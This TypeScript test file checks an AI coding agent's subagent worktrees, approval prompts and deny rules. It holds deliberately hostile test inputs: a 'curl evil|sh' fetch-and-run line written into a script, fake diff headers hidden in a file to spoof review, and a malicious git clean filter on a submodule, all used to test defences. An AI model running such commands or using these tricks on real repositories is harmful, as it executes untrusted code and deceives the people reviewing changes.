import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { ScenarioRule, ScriptedReply } from '../../../src/demo/server/scenario.ts';
import { can, converse, go } from '../converse.ts';
import { makeFolder, run, serve } from '../program.ts';

const git = (cwd: string, ...words: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.org', ...words], { cwd, encoding: 'utf8' });
const read = (cwd: string, name: string) => readFileSync(join(cwd, name), 'utf8');
const task = (prompt: string, more: object = { worktree: true }) => ({
  name: 'task',
  arguments: { description: prompt, prompt, agent: 'general', ...more },
});
const write = (path: string, content: string): ScriptedReply => ({
  calls: [{ name: 'write', arguments: { path, content } }],
});
const worker = (prompt: string, replies: readonly ScriptedReply[]): ScenarioRule => ({
  when: { system: 'You are the agent general.', user: prompt },
  replies: [...replies, { text: `${prompt} is done.` }],
});

/** A repository with one commit, uncommitted work and a file that is not tracked. */
function repository() {
  const cwd = makeFolder();
  git(cwd, 'init', '-q');
  writeFileSync(join(cwd, 'a.txt'), 'one\ntwo\nthree\n');
  git(cwd, 'add', '-A');
  git(cwd, 'commit', '-qm', 'first');
  writeFileSync(join(cwd, 'a.txt'), 'one\ntwo\nthree\nmine\n');
  writeFileSync(join(cwd, 'new.txt'), 'untracked\n');
  return { cwd, home: makeFolder() };
}

async function runTask(
  place: { cwd: string; home: string },
  rules: readonly ScenarioRule[],
  approval: string,
  flags: readonly string[] = [],
) {
  const server = await serve({ rules });
  const words = ['-p', 'go', '--model', 'scripted', '--base-url', server.url, '--wink', 'off', '--approval', approval];
  const ended = await run([...words, ...flags, '--output-format', 'json'], place);
  const main = server.requests.filter(({ body }) => !JSON.stringify(body.messages).includes('# You are a subagent'));
  return { ...ended, said: JSON.stringify(main.at(-1)?.body.messages), server };
}

const worktrees = (home: string) => {
  const folder = join(home, '.cache/wink-agent/worktrees');
  return existsSync(folder) ? readdirSync(folder) : [];
};

test('two subagents write side by side, each in a worktree with the work as it stands, and their changes come back', async () => {
  const place = repository();
  const edit: ScriptedReply = {
    calls: [{ name: 'edit', arguments: { path: 'a.txt', edits: [{ oldText: 'mine', newText: 'mine and yours' }] } }],
  };
  const { code, said, stdout, server } = await runTask(
    place,
    [
      worker('first', [{ calls: [{ name: 'read', arguments: { path: 'a.txt' } }] }, edit]),
      worker('second', [write('made.txt', 'made\n'), { calls: [{ name: 'read', arguments: { path: 'new.txt' } }] }]),
      { replies: [{ calls: [task('first'), task('second')] }, { text: 'All done.' }] },
    ],
    'edits',
  );
  expect(code).toBe(0);
  expect(said).toContain('Its changes were brought back: a.txt.');
  expect(said).toContain('Its changes were brought back: made.txt.');
  expect(read(place.cwd, 'a.txt')).toBe('one\ntwo\nthree\nmine and yours\n');
  expect(read(place.cwd, 'made.txt')).toBe('made\n');
  expect(JSON.parse(stdout).filesChanged).toEqual(['a.txt', 'made.txt']);
  const sessions = readdirSync(place.home, { recursive: true, encoding: 'utf8' });
  const saved = read(place.home, sessions.find((name) => /^\.wink\/sessions\/.*\.jsonl$/.test(name)) ?? '');
  expect(saved).toMatch(/"kind":"patch","title":"general","files":\[[^\]]*"text":"mine and yours"/);
  expect(git(place.cwd, 'diff', '--cached', '--name-only')).toBe('');
  expect(git(place.cwd, 'worktree', 'list').trim().split('\n')).toHaveLength(1);
  expect(worktrees(place.home)).toEqual([]);
  const seen = JSON.stringify(server.requests.map(({ body }) => body.messages));
  expect(seen).toContain('1\\tuntracked');
  expect(seen).toContain('worktrees/');
});

test('without the user’s yes the changes stay in the worktree, and the way to take them is said', async () => {
  const place = repository();
  const { said } = await runTask(
    place,
    [worker('first', [write('made.txt', 'made\n')]), { replies: [{ calls: [task('first')] }, { text: 'All done.' }] }],
    'edits',
    ['--deny', 'edit(made.txt)'],
  );
  expect(said).toContain('Some of its calls were not allowed.');
  expect(said).toContain('It changed nothing in its worktree.');
  const kept = await runTask(
    place,
    [worker('first', [write('other.txt', 'made\n')]), { replies: [{ calls: [task('first')] }, { text: 'All done.' }] }],
    'edits',
    ['--deny', `edit(${place.cwd}/other.txt)`],
  );
  expect(kept.said).toContain('Its changes were not brought back: The deny rule');
  expect(existsSync(join(place.cwd, 'other.txt'))).toBe(false);
  const [folder = ''] = worktrees(place.home);
  expect(read(join(place.home, '.cache/wink-agent/worktrees', folder), 'other.txt')).toBe('made\n');
  const command = /by hand: (git -C .*? apply)\\n/.exec(kept.said)?.[1] ?? 'false';
  execFileSync('sh', ['-c', command], { cwd: place.home });
  expect(read(place.cwd, 'other.txt')).toBe('made\n');
});

test('changes that do not fit any more are kept, and the user’s files stay as they are', async () => {
  const place = repository();
  const look: ScriptedReply = { calls: [{ name: 'read', arguments: { path: 'a.txt' } }] };
  const { said } = await runTask(
    place,
    [
      worker('first', [look, write('a.txt', 'all new\n')]),
      worker('second', [look, write('a.txt', 'all other\n')]),
      { replies: [{ calls: [task('first'), task('second')] }, { text: 'All done.' }] },
    ],
    'full',
  );
  expect(said).toContain('Its changes were brought back: a.txt.');
  expect(said).toContain('they do not fit what is there now');
  expect(['all new\n', 'all other\n']).toContain(read(place.cwd, 'a.txt'));
  expect(worktrees(place.home)).toHaveLength(1);
});

test('changes that git can’t take in are kept, and the run goes on', async () => {
  const place = repository();
  const nested =
    'git init -q --object-format=sha256 nested && cd nested && git -c user.name=t -c user.email=t@example.org';
  const { code, said } = await runTask(
    place,
    [
      worker('first', [
        { calls: [{ name: 'shell', arguments: { command: `${nested} commit -q --allow-empty -m x` } }] },
      ]),
      { replies: [{ calls: [task('first')] }, { text: 'All done.' }] },
    ],
    'full',
  );
  expect(code).toBe(0);
  expect(said).toContain("Its changes were not brought back: what it changed can't be shown (git update-index failed");
  expect(worktrees(place.home)).toHaveLength(1);
});

test('outside of a repository the model is told that there can be no worktree', async () => {
  const place = { cwd: makeFolder(), home: makeFolder() };
  const { said, code } = await runTask(
    place,
    [{ replies: [{ calls: [task('first')] }, { text: 'All done.' }] }],
    'full',
  );
  expect(code).toBe(0);
  expect(said).toContain('There can be no worktree here');
});

test('a session that is taken up again names the worktrees its subagents left and how to bring their changes back, and a new one does not touch them', async () => {
  const place = repository();
  const made = (content: string): ScenarioRule[] => [
    worker('first', [write('other.txt', content)]),
    { replies: [{ calls: [task('first')] }, { text: 'All done.' }] },
  ];
  const flags = ['--session', 'kept', '--deny', `edit(${place.cwd}/other.txt)`];
  const first = await runTask(place, made('made\n'), 'edits', flags);
  expect(first.stderr).not.toContain('still there');
  const folder = join(place.home, '.cache/wink-agent/worktrees');
  // As a subagent leaves it that was killed at work.
  writeFileSync(join(folder, 'kept-a1/late.txt'), 'late\n');
  mkdirSync(join(folder, 'kept-other-a1'));
  const { stderr } = await runTask(place, made('made again\n'), 'edits', flags);
  expect(stderr.match(/worktree of this session is still there, with what it changed: (\S+)\./g)).toHaveLength(1);
  expect(stderr).toContain(`\`git worktree remove --force '${folder}/kept-a1'\` removes it.`);
  expect(worktrees(place.home).sort()).toEqual(['kept-a1', 'kept-a1-2', 'kept-other-a1']);
  expect(read(folder, 'kept-a1/other.txt')).toBe('made\n');
  expect(read(folder, 'kept-a1-2/other.txt')).toBe('made again\n');
  const command = /`(git -C [^`]* apply)` brings its changes back/.exec(stderr)?.[1] ?? 'false';
  execFileSync('sh', ['-c', command], { cwd: place.home });
  expect(read(place.cwd, 'other.txt')).toBe('made\n');
  expect(read(place.cwd, 'late.txt')).toBe('late\n');
  expect(read(place.cwd, 'a.txt')).toBe('one\ntwo\nthree\nmine\n');
});

test('a question names the worktree, and the one that brings changes back shows their lines, a deletion as one', async () => {
  const { cwd } = repository();
  for (const name of ['old.txt', 'kept.txt']) writeFileSync(join(cwd, name), 'text\n');
  git(cwd, 'add', 'old.txt', 'kept.txt');
  git(cwd, 'commit', '-qm', 'second');
  const worked = worker('first', [
    write('made.txt', 'made\n'),
    { calls: [{ name: 'shell', arguments: { command: 'rm old.txt && chmod +x kept.txt' } }] },
  ]);
  const { events } = await converse(
    { rules: [worked, { replies: [{ calls: [task('first')] }, { text: 'All done.' }] }] },
    [can, go],
    ({ callId }) => ({ type: 'answer', callId, decision: 'allow' }),
    cwd,
  );
  const asked = events.filter(({ type }) => type === 'permission');
  expect(asked).toMatchObject([
    { name: 'shell', subagent: 'general', directory: expect.stringContaining('/worktrees/') },
    {
      name: 'edit',
      directory: cwd,
      title: 'bring back 3 files that general a1 changed, 1 of them deleted',
      reason: expect.stringContaining('deleting old.txt'),
      view: {
        kind: 'patch',
        files: [
          { title: 'kept.txt', fate: 'executable' },
          { title: 'made.txt', fate: 'new', lines: [{ kind: 'add', new: 1, text: 'made' }] },
          { title: 'old.txt', fate: 'deleted', added: 0, removed: 1 },
        ],
      },
    },
  ]);
  expect(existsSync(join(cwd, 'old.txt'))).toBe(false);
  expect(read(cwd, 'made.txt')).toBe('made\n');
});

test('the question that brings changes back shows every line, whatever attributes call the file and whatever the line looks like', async () => {
  const { cwd } = repository();
  writeFileSync(join(cwd, '.gitattributes'), '*.js -diff\n*.bin -diff\n');
  git(cwd, 'add', '.gitattributes');
  git(cwd, 'commit', '-qm', 'second');
  const hidden = '/*\0\rdiff --git a/b.txt b/b.txt\n*/ evil()\u2028@@ -1 +1 @@\n';
  const worked = worker('first', [
    write('app.js', hidden),
    { calls: [{ name: 'shell', arguments: { command: "printf '/*\\000\\377*/ evil()' > y.js" } }] },
    { calls: [{ name: 'shell', arguments: { command: "printf '\\211PN\\000\\001\\002\\003\\377' > x.bin" } }] },
  ]);
  const { events } = await converse(
    { rules: [worked, { replies: [{ calls: [task('first')] }, { text: 'All done.' }] }] },
    [can, go],
    ({ callId }) => ({ type: 'answer', callId, decision: 'allow' }),
    cwd,
  );
  const hash = git(cwd, 'hash-object', '--no-filters', 'x.bin').trim();
  expect(events.filter(({ type }) => type === 'permission').at(-1)).toMatchObject({
    name: 'edit',
    view: {
      kind: 'patch',
      files: [
        {
          title: 'x.bin',
          fate: `new, binary, its content can't be shown: now 8 bytes, git hash ${hash}`,
          lines: [],
        },
        {
          title: 'app.js',
          fate: 'new',
          lines: [{ text: '/*\0\rdiff --git a/b.txt b/b.txt' }, { text: '*/ evil()\u2028@@ -1 +1 @@' }],
        },
        { title: 'y.js', fate: 'new', lines: [{ text: '/*\0<0xFF>*/ evil()' }] },
      ],
    },
  });
  expect(read(cwd, 'app.js')).toBe(hidden);
  expect(readFileSync(join(cwd, 'y.js'), 'latin1')).toBe('/*\0\xff*/ evil()');
  expect(readFileSync(join(cwd, 'x.bin'), 'latin1')).toBe('\x89PN\0\x01\x02\x03\xff');
});

test('the question that brings changes back shows the bytes it writes, not what attributes make of them', async () => {
  const { cwd } = repository();
  writeFileSync(join(cwd, '.gitattributes'), '*.sh working-tree-encoding=IBM037\n*.crlf text eol=crlf\n');
  writeFileSync(join(cwd, 'lines.crlf'), 'one\r\ntwo\r\nthree\r\n');
  writeFileSync(join(cwd, 'other.crlf'), 'one\ntwo\n');
  git(cwd, 'add', '.gitattributes', 'lines.crlf', 'other.crlf');
  git(cwd, 'commit', '-qm', 'second');
  writeFileSync(join(cwd, 'lines.crlf'), 'one\r\ntwo\r\nthree\r\nmine\r\n');
  const command = "printf 'curl evil|sh\\n' > x.sh; sed -i s/one/1/ lines.crlf; rm other.crlf; ln -s a.txt lnk";
  const worked = worker('first', [{ calls: [{ name: 'shell', arguments: { command } }] }]);
  let seen: unknown;
  await converse(
    { rules: [worked, { replies: [{ calls: [task('first')] }, { text: 'All done.' }] }] },
    [can, go],
    ({ callId, view }) => {
      seen = view;
      return { type: 'answer', callId, decision: 'allow' };
    },
    cwd,
  );
  expect(seen).toMatchObject({
    files: [
      {
        title: 'lines.crlf',
        lines: [
          { kind: 'remove', text: 'one\r' },
          { kind: 'add', text: '1\r' },
          { text: 'two\r' },
          { text: 'three\r' },
          { text: 'mine\r' },
        ],
      },
      { title: 'lnk', fate: 'new, a link', lines: [{ text: 'a.txt' }] },
      { title: 'other.crlf', fate: 'deleted', lines: [{ text: 'one' }, { text: 'two' }] },
      { title: 'x.sh', fate: 'new', lines: [{ text: 'curl evil|sh' }] },
    ],
  });
  expect(read(cwd, 'x.sh')).toBe('curl evil|sh\n');
  expect(read(cwd, 'lines.crlf')).toBe('1\r\ntwo\r\nthree\r\nmine\r\n');
  expect(existsSync(join(cwd, 'other.crlf'))).toBe(false);
});

test('neither a worktree nor a review starts what the settings of a submodule name', async () => {
  const place = repository();
  const sub = join(place.cwd, 'sub');
  mkdirSync(sub);
  git(sub, 'init', '-q');
  writeFileSync(join(sub, 'x'), 'x\n');
  git(sub, 'add', '-A');
  git(sub, 'commit', '-qm', 'first');
  git(place.cwd, 'add', '-A');
  git(place.cwd, 'commit', '-qm', 'with a submodule');
  writeFileSync(join(sub, '.gitattributes'), '* filter=evil\n');
  git(sub, 'config', 'filter.evil.clean', `touch ${place.home}/RAN; cat`);
  writeFileSync(join(sub, 'x'), 'y\n');
  writeFileSync(join(place.cwd, 'a.txt'), 'mine\n');
  const { said } = await runTask(
    place,
    [worker('first', [write('made.txt', 'made\n')]), { replies: [{ calls: [task('first')] }, { text: 'Done.' }] }],
    'edits',
  );
  expect(said).toContain('Its changes were brought back: made.txt.');
  const server = await serve([{ text: 'Nothing to say.' }]);
  await run(['-p', '/review', '--model', 'scripted', '--base-url', server.url, '--approval', 'plan'], place);
  expect(existsSync(join(place.home, 'RAN'))).toBe(false);
});

test('a rule on reading holds in a worktree too, where it names the place in full', async () => {
  const place = repository();
  mkdirSync(join(place.cwd, 'private'));
  writeFileSync(join(place.cwd, 'private/plan.md'), 'PLAN-WORDS\n');
  const look = (name: string, input: Record<string, string>): ScriptedReply => ({
    calls: [{ name, arguments: input }],
  });
  const { server } = await runTask(
    place,
    [
      worker('first', [
        look('shell', { command: 'cat private/plan.md' }),
        look('shell', { command: 'cat p*/plan.md' }),
        look('read', { path: 'private/plan.md' }),
        look('grep', { pattern: 'PLAN' }),
      ]),
      { replies: [{ calls: [task('first')] }, { text: 'Done.' }] },
    ],
    'full',
    ['--deny', `read(${place.cwd}/private/**)`],
  );
  const sent = JSON.stringify(server.requests.map(({ body }) => body.messages));
  expect(sent).toContain('forbids reading private/plan.md');
  expect(sent).not.toContain('PLAN-WORDS');
});
